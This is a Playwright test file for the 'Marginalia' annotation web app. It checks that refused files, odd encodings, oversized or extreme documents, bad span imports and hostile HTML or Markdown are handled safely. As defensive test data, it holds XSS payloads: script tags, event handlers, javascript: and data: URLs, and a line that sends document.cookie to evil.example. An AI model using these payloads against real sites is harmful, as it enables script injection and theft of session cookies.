// Hardening (issue 6): bad files, hostile content and extreme documents, loaded the way a user
// does (Open articles) into a corpus that already holds an annotated article. Every case checks
// the exact notice shown, that the stored corpus (every record in IndexedDB) is byte for
// byte what it was (or, for a file that opens, that only the new article was added), that the
// annotation is still shown, that no script ran and no crash banner appeared; the harness fails
// the test on any page error, console error, CSP violation or request leaving the page.
import fs from 'node:fs';
import path from 'node:path';
import {
  ROOT,
  clearStored,
  expect,
  expectEq,
  journalEmpty,
  localRecords,
  openApp,
  screenshot,
  selectInSegment,
  storedDocs,
  storedRecords,
  waitStored,
} from './harness.mjs';
import { select } from './annotate.test.mjs';
import { nameImport } from './views.test.mjs';

const PNG = Buffer.from(
  '89504e470d0a1a0a0000000d49484452000000010000000108060000001f15c4890000000d4944415478da63f8cfc0f01f0005000201e2260f6e0000000049454e44ae426082',
  'hex',
);
const ZIP = Buffer.from('504b0304140000000800a19c77590000000000000000000000000800000061727469636c65', 'hex');
const MAX = 10 * 1024 * 1024;

/** Every stored record (IndexedDB), as sorted [key, value] pairs. */
const stored = async (page) => Object.entries(await storedRecords(page));
/** How many documents `records` hold. */
const docCount = (records) => Object.keys(records).filter((k) => k.startsWith('marginalia:doc:')).length;

/**
 * A corpus with an annotated article: the samples, an entity on "Marvila" with a note, saved.
 * Returns the stored values.
 */
async function annotatedCorpus(page, url) {
  await openApp(page, url);
  await clearStored(page);
  await selectInSegment(page, 'Marvila');
  await page.keyboard.press('3');
  await page.getByRole('textbox', { name: 'Note' }).fill('kept, whatever is loaded');
  await page.getByRole('textbox', { name: 'Note' }).blur();
  await waitStored(
    page,
    (r) => docCount(r) === 3 && Object.values(storedDocs(r)).some((d) => d.spans?.some((s) => s.note === 'kept, whatever is loaded')),
    'the samples and the annotation with its note',
  );
  await page.waitForFunction(() => document.querySelector('.save-status')?.textContent.startsWith('Saved'));
  await journalEmpty(page);
  return stored(page);
}

/** Open `files` ({name, buffer, mimeType?}) through the Open articles button. */
async function openFiles(page, files) {
  const chooser = page.waitForEvent('filechooser');
  await page.getByRole('button', { name: 'Open articles' }).click();
  await (await chooser).setFiles(files.map((f) => ({ mimeType: 'application/octet-stream', ...f })));
}

/** Wait for a notice with exactly `text` in the given role (alert: errors, status: info). */
async function notice(page, role, text) {
  await page.waitForFunction(
    ([role, text]) =>
      [...document.querySelectorAll(`.notice[role="${role}"] > span`)].some((s) => s.textContent === text),
    [role, text],
    { timeout: 15000 },
  ).catch(async () => {
    const shown = await page.$$eval('.notice', (els) => els.map((e) => `${e.getAttribute('role')}: ${e.firstChild.textContent}`));
    throw new Error(`no ${role} notice ${JSON.stringify(text)}; shown: ${JSON.stringify(shown)}`);
  });
}

/** Dismiss every notice, so the next one is seen on its own. */
async function dismissAll(page) {
  while ((await page.locator('.notice-close').count()) > 0) await page.locator('.notice-close').first().click();
}

/** The corpus is as it was, the annotation still shows, nothing ran, no crash banner. */
async function intact(page, before, what) {
  expectEq(await stored(page), before, `${what}: stored corpus`);
  await page.getByRole('button', { name: /^Lisbon council/ }).click();
  await page.locator('.seg[data-labels="entity"]', { hasText: 'Marvila' }).waitFor();
  expectEq(await page.locator('.span-item').count(), 1, `${what}: annotations shown`);
  expectEq(await page.evaluate(() => window.__pwned ?? null), null, `${what}: no script ran`);
  expectEq(await page.locator('#crash-banner').count(), 0, `${what}: crash banner`);
}

/** Stored values of the documents that were there before are unchanged; `added` new ones. */
async function onlyAdded(page, before, added, what) {
  // New documents are saved just after the frame that shows them.
  const docs = before.filter(([k]) => k.startsWith('marginalia:doc:')).length + added;
  await waitStored(page, (r) => docCount(r) >= docs, `${docs} documents`, 5000).catch(() => {});
  const now = new Map(await stored(page));
  for (const [k, v] of before) {
    if (k === 'marginalia:index') continue;
    expectEq(now.get(k), v, `${what}: ${k} unchanged`);
  }
  const fresh = [...now.keys()].filter((k) => k.startsWith('marginalia:doc:') && !before.some(([b]) => b === k));
  expectEq(fresh.length, added, `${what}: new documents stored`);
  const index = JSON.parse(now.get('marginalia:index'));
  const old = JSON.parse(new Map(before).get('marginalia:index'));
  expectEq(index.docs.slice(0, old.docs.length), old.docs, `${what}: list order kept`);
  expectEq(await page.locator('#crash-banner').count(), 0, `${what}: crash banner`);
}

/** Handlers and styles in a hostile file are reported by Chromium as blocked by the CSP while
 * the inert DOMParser reads them (see annotate.test.mjs): expected, and proof they did not run. */
const HOSTILE_ALLOW = {
  allowConsoleErrors: /violates the following Content Security Policy directive/,
  allowCsp: /^(base-uri|script-src-attr|style-src-elem|style-src-attr|script-src|style-src|default-src|frame-src|child-src|img-src|object-src) blocked (inline|javascript|https:\/\/evil\.example\/.*|data)$/,
};

export default async function hardeningTests(test) {
  await test('refused files: a clear message each, the stored corpus untouched', async ({ page, url }) => {
    const before = await annotatedCorpus(page, url);
    const cases = [
      [{ name: 'empty.txt', buffer: Buffer.alloc(0) }, 'alert', 'empty.txt is empty.'],
      [{ name: 'photo.png', buffer: PNG }, 'alert', 'photo.png: Marginalia opens .txt, .md, .html, .json and .jsonl files.'],
      [{ name: 'archive.zip', buffer: ZIP }, 'alert', 'archive.zip: Marginalia opens .txt, .md, .html, .json and .jsonl files.'],
      [{ name: 'scan.txt', buffer: PNG }, 'alert', 'scan.txt: This looks like a binary file, not text.'],
      [{ name: 'export.json', buffer: ZIP }, 'alert', 'export.json: This looks like a binary file, not text.'],
      [
        { name: 'notes.json', buffer: Buffer.from('Dear editor, this is not JSON.') },
        'alert',
        'notes.json: This file is not JSON or JSON Lines (expected value at line 1 column 1).',
      ],
      [
        { name: 'cut.json', buffer: Buffer.from('{"text": "Harbour reopens", "spans": [{"start": 0, "end": 7, "lab') },
        'alert',
        'cut.json: This file is not JSON or JSON Lines (EOF while parsing a string at line 1 column 65).',
      ],
      [
        { name: 'deep.json', buffer: Buffer.from('['.repeat(100000) + ']'.repeat(100000)) },
        'alert',
        'deep.json: This file is not JSON or JSON Lines (recursion limit exceeded at line 1 column 128).',
      ],
      [
        {
          name: 'w3c.json',
          buffer: Buffer.from('{"@context": "http://www.w3.org/ns/anno.jsonld", "type": "AnnotationCollection", "first": {"items": []}}'),
        },
        'alert',
        'w3c.json: item 1: no "text" field; skipped',
      ],
      [
        { name: 'future.json', buffer: Buffer.from('{"schema": "marginalia-dataset", "version": 9, "documents": []}') },
        'alert',
        'future.json: This dataset is version 9, from a newer Marginalia; this one reads version 2.',
      ],
      [
        { name: 'huge.txt', buffer: Buffer.alloc(MAX + 1, 'a') },
        'alert',
        'huge.txt is larger than 10 MB, the most Marginalia opens.',
      ],
    ];
    for (const [file, role, text] of cases) {
      await openFiles(page, [file]);
      await notice(page, role, text);
      if (file.name === 'scan.txt') await screenshot(page, 'hardening-binary-refused');
      await intact(page, before, file.name);
      expectEq(await page.locator('.doc-item').count(), 3, `${file.name}: no article added`);
      await dismissAll(page);
    }
    // Several at once: one message each, in order.
    await openFiles(page, [
      { name: 'a.txt', buffer: Buffer.from(' \n\n ') },
      { name: 'b.md', buffer: ZIP },
    ]);
    await notice(page, 'alert', 'a.txt is empty.');
    await notice(page, 'alert', 'b.md: This looks like a binary file, not text.');
    await intact(page, before, 'two at once');
  });

  await test('odd encodings and literal markup open as text, saying what was assumed', async ({ page, url, problems }) => {
    const before = await annotatedCorpus(page, url);
    const dataRequests = [];
    page.on('request', (r) => r.url().startsWith('data:') && dataRequests.push(r.url()));
    // Windows-1252: “Café” — naïve 10€, Zürich.
    const cp1252 = Buffer.from([
      ...Buffer.from('Old newsletter\r\n\r\n'),
      0x93, ...Buffer.from('Caf'), 0xe9, 0x94, 0x20, 0x97, ...Buffer.from(' na'), 0xef, ...Buffer.from('ve, 10'), 0x80,
      ...Buffer.from(' in Z'), 0xfc, ...Buffer.from('rich.\r\n'),
    ]);
    await openFiles(page, [{ name: 'newsletter.txt', buffer: cp1252 }]);
    await notice(page, 'status', 'newsletter.txt is not UTF-8; it was read as Windows-1252.');
    await notice(page, 'status', 'Opened 1 article.');
    await page.locator('article h1', { hasText: 'Old newsletter' }).waitFor();
    expectEq(
      await page.locator('.article-text p').first().textContent(),
      '“Café” — naïve, 10€ in Zürich.',
      'Windows-1252 decoded',
    );
    await screenshot(page, 'hardening-windows-1252');
    await onlyAdded(page, before, 1, 'Windows-1252');
    await dismissAll(page);

    // Tags in a .txt are text; a Markdown image with a javascript: or data: URL is a card.
    const tags =
      '<b>Tags</b> as text\n\n<script>window.__pwned = 1</script><img src=x onerror="window.__pwned=2">' +
      ' <a href="javascript:window.__pwned=3">link</a> <iframe src="javascript:1"></iframe>\n\n' +
      "![tracker](javascript:fetch%28'//evil.example/'+document.cookie%29)\n\n" +
      '![pixel](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9IndpbmRvdy5fX3B3bmVkPTQiLz4=)\n\n' +
      '![alt](javascript:alert(1))\n';
    await openFiles(page, [{ name: 'tags.md', buffer: Buffer.from(tags) }]);
    await notice(page, 'status', 'Opened 1 article.');
    await page.locator('article h1', { hasText: '<b>Tags</b> as text' }).waitFor();
    const text = await page.locator('.article-text').textContent();
    expect(text.includes('<script>window.__pwned = 1</script><img src=x onerror="window.__pwned=2">'), `tags shown: ${text}`);
    expectEq(
      await page.locator('.article-text script, .article-text img, .article-text a, .article-text iframe, .article-text b').count(),
      0,
      'no element from the text',
    );
    const cards = await page.$$eval('figure.image-card .image-host', (els) => els.map((e) => e.textContent));
    expectEq(
      cards,
      ['Image from local or unsupported address · not loaded', 'Image from local or unsupported address · not loaded'],
      'image cards without a host',
    );
    // The line whose URL has parentheses is not an image: it stays a paragraph of text.
    expect(text.includes('![alt](javascript:alert(1))'), 'unparsed image line kept as text');
    await onlyAdded(page, before, 2, 'tags');
    expectEq(await page.evaluate(() => window.__pwned ?? null), null, 'no script ran');
    expectEq(dataRequests, [], 'no data: URL was loaded');
    expectEq(problems.external, [], 'no request left the page');
  });

  await test('hostile HTML: handlers, javascript: URLs, iframes, styles and embeds never run or load', async ({ page, url, problems }) => {
    const before = await annotatedCorpus(page, url);
    const dataRequests = [];
    page.on('request', (r) => r.url().startsWith('data:') && dataRequests.push(r.url()));
    const html =
      '<!doctype html><html><head><title>Hostile page</title>' +
      '<meta http-equiv="refresh" content="0;url=https://evil.example/"><base href="https://evil.example/">' +
      '<link rel="stylesheet" href="https://evil.example/x.css"><style>body{background:url(https://evil.example/bg.png)}</style>' +
      '<script>window.__pwned = 1</script></head>' +
      '<body onload="window.__pwned=2"><h1>Hostile page</h1>' +
      '<p>Read <a href="javascript:window.__pwned=3">this link</a> and <a href="https://evil.example/">that one</a>.</p>' +
      '<iframe src="https://evil.example/frame" srcdoc="<script>parent.__pwned=4</script>"></iframe>' +
      '<p onmouseover="window.__pwned=5" style="background:url(https://evil.example/p.png)">Second paragraph.</p>' +
      '<svg onload="window.__pwned=6"><text>svg text</text></svg>' +
      '<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/y">' +
      '<img src="javascript:window.__pwned=7" alt="js image"><img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" onerror="window.__pwned=8" alt="data image">' +
      '<details open ontoggle="window.__pwned=9"><summary>More</summary><p>Inside details.</p></details>' +
      '<form action="https://evil.example/"><input value="field"><button>Send</button></form>' +
      '<ul><li>One</li><li>Two</li></ul><noscript>no script text</noscript><template><p>template text</p></template>' +
      '</body></html>';
    await openFiles(page, [{ name: 'hostile.html', mimeType: 'text/html', buffer: Buffer.from(html) }]);
    await notice(page, 'status', 'Opened 1 article.');
    await page.locator('article h1', { hasText: 'Hostile page' }).waitFor();
    const text = await page.locator('.article-text').textContent();
    for (const kept of ['Read this link and that one.', 'Second paragraph.', 'Inside details.', 'One', 'Two']) {
      expect(text.includes(kept), `kept ${kept}: ${text}`);
    }
    for (const dropped of ['pwned', 'svg text', 'template text', 'no script text', 'background', 'field', 'Send']) {
      expect(!text.includes(dropped), `dropped ${dropped}: ${text}`);
    }
    expectEq(
      await page.locator('.article-text :is(a, iframe, img, script, style, svg, object, embed, form, input, details, link, meta, base)').count(),
      0,
      'no element from the file',
    );
    // Images become cards; the javascript: and data: ones name no host and load nothing.
    const cards = await page.$$eval('figure.image-card', (els) => els.map((e) => e.querySelector('.image-host').textContent));
    expectEq(cards.length, 2, `image cards: ${cards}`);
    expect(cards.every((c) => c === 'Image from local or unsupported address · not loaded'), `${cards}`);
    await page.waitForTimeout(300);
    expectEq(await page.evaluate(() => window.__pwned ?? null), null, 'nothing ran');
    expectEq(dataRequests, [], 'no data: URL was loaded');
    expectEq(problems.external, [], 'no request left the page');
    expect(page.url().startsWith(url) && !page.url().includes('evil'), `still on the app: ${page.url()}`);
    await onlyAdded(page, before, 1, 'hostile HTML');
  }, HOSTILE_ALLOW);

  await test('an import with bad spans: each is reported, none shifted, the rest kept', async ({ page, url }) => {
    const before = await annotatedCorpus(page, url);
    const text = 'The cat sat on the mat. The cat left.';
    const spans = [
      { start: 4, end: 7, label: 'entity', id: 'cat', text: 'cat' },
      { start: 0, end: 99, label: 'quote' },
      { start: 7, end: 7, label: 'quote' },
      { start: 9, end: 4, label: 'quote' },
      { start: -3, end: 4, label: 'quote' },
      { start: 0.5, end: 4, label: 'quote' },
      { start: 0, end: 'BIG', label: 'quote' },
      { start: 0, end: 3, label: 'opinion' },
      { start: 4, end: 7, label: 'claim', id: 'cat' },
      { start: 4, end: 7, label: 'entity' },
      { start: 4, end: 7, label: 'quote', text: 'mat' },
      { start: 19, end: 22, label: 'quote', text: 'mat' },
    ];
    const line = JSON.stringify({ text, meta: { title: 'Cat report' }, spans }).replace('"BIG"', '9007199254740993');
    await openFiles(page, [{ name: 'bad-spans.jsonl', buffer: Buffer.from(`${line}\n{"text": "cut`) }]);
    await notice(page, 'alert', 'bad-spans.jsonl: line 1, span 2: end 99 is beyond the text (37 characters); skipped');
    await notice(page, 'alert', 'bad-spans.jsonl: line 1, span 3: start 7 is not before end 7; skipped');
    await notice(page, 'alert', 'bad-spans.jsonl: 8 more problems were skipped.');
    await notice(page, 'status', 'Opened 1 article.');
    // A title given apart from the text is the document's name, not a line of it.
    await page.locator('.doc-row.active .doc-title', { hasText: 'Cat report' }).waitFor();
    const listed = await page.$$eval('.span-item', (items) =>
      items.map((i) => [i.querySelector('.chip').textContent, i.querySelector('.span-excerpt').textContent]),
    );
    // In text order (equal ranges by id: the file's "cat" before the claim's new id).
    expectEq(listed, [['Entity', 'cat'], ['Claim', 'cat'], ['Quote', 'mat']], 'only the valid spans, where the file put them');
    await onlyAdded(page, before, 1, 'bad spans');
    await dismissAll(page);

    // A Marginalia dataset whose span text does not match: reported per span, the rest merged.
    const dataset = {
      schema: 'marginalia-dataset',
      version: 1,
      documents: [
        {
          id: 'x',
          title: 'Merged',
          source: 'm.md',
          text: 'Merged\n\nThe dog ran.',
          blocks: [
            { kind: 'title', start: 0, end: 6 },
            { kind: 'paragraph', start: 8, end: 20 },
          ],
          spans: [
            { id: 'd1', start: 12, end: 15, text: 'dog', label: 'entity' },
            { id: 'd2', start: 12, end: 15, text: 'cat', label: 'claim' },
            { id: 'd1', start: 16, end: 19, text: 'ran', label: 'claim' },
          ],
        },
      ],
    };
    await openFiles(page, [{ name: 'backup.json', buffer: Buffer.from(JSON.stringify(dataset)) }]);
    await nameImport(page, 'mine');
    await notice(page, 'alert', 'backup.json: document 1 (x), span 2: its text "cat" is not the text at 12..15 ("dog"); skipped');
    await notice(page, 'alert', 'backup.json: document 1 (x), span 3: id "d1" is invalid or repeated; skipped');
    await page.getByRole('button', { name: /^Merged/ }).click();
    await page.locator('.seg[data-labels="entity"]', { hasText: 'dog' }).waitFor();
    expectEq(await page.locator('.span-item').count(), 1, 'one valid span merged');
    await onlyAdded(page, before, 2, 'dataset');
  });

  await test('a version 1 corpus in localStorage moves into IndexedDB, opens with its annotations, and is rewritten only by an edit', async ({ page, url }) => {
    // The storage version this build writes (src/storage/schema.rs, VERSION).
    const VERSION = Number(fs.readFileSync(path.join(ROOT, 'src/storage/schema.rs'), 'utf8').match(/pub const VERSION: u64 = (\d+);/)[1]);
    const v1 = JSON.parse(fs.readFileSync(path.join(ROOT, 'tests/fixtures/storage/v1/localStorage.json'), 'utf8'));
    // What an older Marginalia left in localStorage, seeded before this build's first start in
    // this context (IndexedDB is empty, nothing says the data moved before).
    await page.addInitScript((v1) => {
      if (sessionStorage.getItem('seeded')) return;
      sessionStorage.setItem('seeded', '1');
      localStorage.clear();
      for (const [k, v] of Object.entries(v1)) localStorage.setItem(k, v);
    }, v1);
    const startedAt = Date.now();
    await page.goto(url);
    await page.locator('.span-item').first().waitFor();
    const spans = await page.locator('.span-item').count();
    expect(spans > 0, 'the version 1 annotations are shown');
    // The records were copied as they were (loading rewrote nothing), and only then removed
    // from localStorage, with the mark that says they moved.
    expectEq(await stored(page), Object.entries(v1).sort(), 'IndexedDB holds the version 1 records, unchanged');
    await journalEmpty(page);
    const local = await localRecords(page);
    for (const key of Object.keys(v1)) expect(!(key in local), `${key} removed from localStorage`);
    const moved = Number(local['marginalia:migrated']);
    expect(moved >= startedAt - 1000 && moved <= Date.now() + 1000, `marginalia:migrated is when: ${local['marginalia:migrated']}`);
    expectEq(
      await page.$$eval('.notice', (els) => els.map((e) => `${e.getAttribute('role')}: ${e.firstChild.textContent}`)),
      ["status: Your work (2 stored records) moved from local storage to this browser's database, which has room for thousands of articles."],
      'one notice, saying the work moved',
    );
    await screenshot(page, 'migrated-header', page.locator('header.topbar'));
    await page.emulateMedia({ colorScheme: 'dark' });
    await screenshot(page, 'migrated-header-dark', page.locator('header.topbar'));
    await page.emulateMedia({ colorScheme: 'light' });

    // An edit writes the document in the current version, with its old spans.
    await select(page, 'mayor');
    await page.keyboard.press('2');
    const records = await waitStored(
      page,
      (r) => Object.values(storedDocs(r)).some((d) => d.version === VERSION),
      `the document rewritten as version ${VERSION}`,
    );
    const doc = Object.values(storedDocs(records))[0];
    const text = JSON.parse(records[`marginalia:text:${doc.id}`] ?? 'null');
    expectEq(doc.spans.length, spans + 1, 'old spans kept, new one added');
    expect(doc.text === undefined && text?.id === doc.id && text.text.includes('mayor'), 'the text is stored apart');
    // A reload opens it from IndexedDB: every span, nothing moved again, localStorage stays clear.
    await journalEmpty(page);
    await page.reload();
    await page.locator('.span-item').first().waitFor();
    expectEq(await page.locator('.span-item').count(), spans + 1, 'every span after a reload');
    expectEq(await page.locator('.notice').count(), 0, 'no notice the second time');
    const again = await localRecords(page);
    expectEq(Object.keys(again).filter((k) => k !== 'marginalia:view'), ['marginalia:migrated'], 'localStorage keeps only the mark');
  });

  await test('a file just under 10 MB opens and the page stays responsive; the corpus is kept', async ({ page, url }) => {
    const before = await annotatedCorpus(page, url);
    const paragraph = 'The harbour authority said the cranes would be replaced over the winter. '.repeat(12) + '\n\n';
    let body = 'Very long report\n\n';
    while (body.length + paragraph.length < MAX - 4096) body += paragraph;
    const statusBefore = await page.locator('.save-status').textContent();
    const t0 = Date.now();
    await openFiles(page, [{ name: 'long.txt', buffer: Buffer.from(body) }]);
    await page.locator('article h1', { hasText: 'Very long report' }).waitFor({ timeout: 60000 });
    const opened = Date.now() - t0;
    // Responsive: a key press is handled at once (the shortcuts dialog opens and closes).
    const t1 = Date.now();
    await page.locator('.reader').click({ position: { x: 5, y: 5 } });
    await page.keyboard.press('?');
    await page.getByRole('dialog', { name: 'Keyboard shortcuts' }).waitFor();
    await page.keyboard.press('Escape');
    const answered = Date.now() - t1;
    // Tagging works in it.
    await select(page, 'harbour authority');
    await page.keyboard.press('3');
    await page.locator('.span-item').first().waitFor();
    // The save of the new article has been tried: saved, or the quota message.
    await page.waitForFunction((was) => document.querySelector('.save-status').textContent !== was, statusBefore);
    const saved = await page.locator('.save-status').textContent();
    console.log(
      `       ${(body.length / 1048576).toFixed(2)} MiB opened in ${opened} ms; a key press answered in ${answered} ms; ${saved}`,
    );
    // Whether it fits the browser's storage or not, the earlier documents are untouched.
    const now = new Map(await stored(page));
    for (const [k, v] of before) if (k !== 'marginalia:index') expectEq(now.get(k), v, `${k} unchanged`);
    expectEq(await page.locator('#crash-banner').count(), 0, 'crash banner');
  });

  await test('extreme documents: 10,000-character words, a span over everything, 500 spans on one word', async ({ page, url }) => {
    const before = await annotatedCorpus(page, url);
    const word = (c, i) => (c.repeat(9990) + String(i).padStart(10, '0')).slice(0, 10000);
    const lines = ['Longwords', ...Array.from({ length: 12 }, (_, i) => word('abcdefghij'[i % 10], i))];
    const longText = lines.join('\n\n');
    // The same text with one span over the whole of it.
    const records = [
      { text: longText, spans: [{ start: 0, end: [...longText].length, label: 'quote' }] },
    ];
    // 500 spans on "Marvila": every (start, end, label) around it, nesting and crossing.
    const pre = 'Marvila report\n\nPeople in the district of ';
    const text500 = `${pre}Marvila have waited long enough for a park.`;
    const at = [...pre].length;
    const spans = [];
    for (let a = 0; a <= 12 && spans.length < 500; a++)
      for (let b = 0; b <= 13 && spans.length < 500; b++)
        for (const label of ['quote', 'claim', 'entity'])
          if (spans.length < 500) spans.push({ start: at - a, end: at + 7 + b, label, id: `m${spans.length}` });
    records.push({ text: text500, spans });
    const jsonl = records.map((r) => JSON.stringify(r)).join('\n');
    const t0 = Date.now();
    await openFiles(page, [{ name: 'extreme.jsonl', buffer: Buffer.from(jsonl) }]);
    await notice(page, 'status', 'Opened 2 articles.');
    console.log(`       extreme.jsonl (${jsonl.length} bytes, 501 spans) opened in ${Date.now() - t0} ms`);

    // The long words wrap inside the article: nothing sticks out sideways.
    await page.getByRole('button', { name: /^Longwords/ }).click();
    await page.locator('article h1', { hasText: 'Longwords' }).waitFor();
    const overflow = await page.evaluate(() => {
      const article = document.querySelector('article');
      const reader = document.querySelector('.reader');
      return {
        article: article.scrollWidth - article.clientWidth,
        reader: reader.scrollWidth - reader.clientWidth,
        page: document.documentElement.scrollWidth - document.documentElement.clientWidth,
      };
    });
    expectEq(overflow, { article: 0, reader: 0, page: 0 }, 'horizontal overflow');
    await screenshot(page, 'hardening-long-words');
    // The span over everything is listed once and covers every block.
    expectEq(await page.locator('.span-item').count(), 1, 'the whole-document span');
    const covered = await page.$$eval('.article-text .block', (bs) => bs.every((b) => [...b.querySelectorAll('.seg')].every((s) => s.dataset.labels === 'quote')));
    expect(covered, 'every block is inside the quote');
    // Tagging inside a 10,000-character word takes the whole word.
    await select(page, 'bbbbbbbbbb', 3);
    await page.keyboard.press('3');
    await page.waitForFunction(() => document.querySelectorAll('.span-item').length === 2);
    expect(await page.locator('.seg[data-labels="quote entity"]').count() > 0, 'entity inside the quote');

    // 500 spans on one word: listed, and clicking cycles through them, innermost first.
    await page.getByRole('button', { name: /^Marvila report/ }).click();
    await page.waitForFunction(() => document.querySelectorAll('.span-item').length === 500);
    const seg = page.locator('.article-text .seg', { hasText: /^Marvila$/ });
    expectEq((await seg.getAttribute('data-span-ids')).split(' ').length, 500, 'span ids on the word');
    const t1 = Date.now();
    const seen = [];
    const active = () =>
      page.$$eval('.span-item', (items) => [items.findIndex((i) => i.classList.contains('active')), document.querySelector('.selected-text')?.textContent]);
    for (let i = 0; i < 4; i++) {
      await seg.click();
      seen.push(await active());
    }
    expectEq(new Set(seen.map(([i]) => i)).size, 4, `each click selects another span: ${JSON.stringify(seen)}`);
    expect(seen.every(([i, text]) => i >= 0 && text.includes('Marvila')), `selected spans hold the word: ${JSON.stringify(seen)}`);
    const clicks = Date.now() - t1;
    expectEq(seen[0][1], '“Marvila”', 'first click: an innermost span');
    await page.keyboard.press('j');
    await page.keyboard.press('k');
    await page.keyboard.press('Delete');
    await page.waitForFunction(() => document.querySelectorAll('.span-item').length === 499);
    console.log(`       4 clicks on a word under 500 spans: ${clicks} ms`);
    await screenshot(page, 'hardening-500-spans');
    await onlyAdded(page, before, 2, 'extreme documents');
  });
}
